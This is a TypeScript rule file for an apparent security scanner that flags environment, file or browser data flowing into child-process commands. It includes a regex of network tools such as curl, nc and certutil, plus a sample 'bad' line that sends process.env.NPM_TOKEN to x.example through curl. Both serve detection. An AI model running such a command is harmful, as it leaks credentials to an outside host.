import { wordsOf } from '../facts/words-of.ts';
import type { Severity } from '../finding.ts';
import { defineRule, type RuleContext } from '../rule.ts';
import type { SourceKind } from '../taint/source.ts';
import type { Flow } from '../taint/trace-flows.ts';
import { isFarFetched, isPlugin } from './helpers.ts';

const SAID: Partial<Record<SourceKind, string>> = {
  environment: 'A variable of the environment',
  file: 'The contents of a file',
  cookie: 'A cookie',
  storage: "The browser's storage",
  clipboard: 'The clipboard',
  input: 'What a person types',
  page: "The page's contents",
  host: "The host's data",
  system: 'Details of the machine',
};
/** Programs that talk to other machines. */
const TALKS =
  /(?:^|[\s/|;&("'`])(?:curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|rsync|ftp|tftp|nslookup|dig|host|ping|sendmail|mail|mutt|Invoke-WebRequest|iwr|certutil|bitsadmin|openssl\s+s_client|gsutil|aws\s+s3)(?:\.exe)?(?:[\s"'`]|$)/;
/** A key that is given to the service it is for. */
const AUTHORISES =
  /(?:authorization|x-[\w-]*(?:key|token)|private-token)\s*[:=]|(?:-u|--user|--oauth2-bearer)\s/i;

export const dataInCommand = defineRule({
  id: 'data-in-command',
  severity: 'critical',
  threat: 'environment-access',
  title: 'Data is put into the command of another program',
  why: 'What stands in a command can leave by the program that is started, and shells run what is written between their quotes.',
  fix: 'Send data with fetch to a declared origin. Start no programs; where one must be, pass data on its standard input.',
  example: {
    bad: 'require("child_process").exec(`curl https://x.example/?t=${process.env.NPM_TOKEN}`);',
    good: 'require("child_process").execFile("git", ["rev-parse", "HEAD"]);',
  },
  cwe: 78,
  visit: {
    flow: (flow, context) => {
      const said = SAID[flow.source.kind];
      if (flow.sink.kind !== 'process' || !said || flow.source.node === flow.sink.node) return;
      context.report(flow.sink.node, {
        severity: severityOf(flow, context),
        confidence: isFarFetched(flow, context) ? 'low' : 'high',
        flow,
        message: `${said} (${flow.source.label}) is put into a command that ${flow.sink.name} starts.`,
      });
    },
  },
});

function severityOf(flow: Flow, context: RuleContext): Severity {
  const { source, sink } = flow;
  const words =
    sink.node.type === 'CallExpression' || sink.node.type === 'NewExpression'
      ? sink.node.arguments.map((node) => wordsOf(node, context.file)).join(' ')
      : '';
  const written = context.file.text.slice(sink.node.start, Math.min(sink.node.end, sink.node.start + 600));
  const leaves = TALKS.test(words) || TALKS.test(written);
  if (isPlugin(context)) return leaves ? 'critical' : 'high';
  if (isFarFetched(flow, context)) return 'low';
  if (leaves && (source.kind === 'environment' || source.kind === 'system' || source.kind === 'file'))
    return AUTHORISES.test(words) || AUTHORISES.test(written)
      ? 'low'
      : source.kind === 'environment'
        ? 'critical'
        : 'medium';
  // Tools of the command line hand on what they find; what people keep in a browser has no business there.
  return source.kind === 'environment' || source.kind === 'system' || source.kind === 'file'
    ? 'low'
    : 'medium';
}
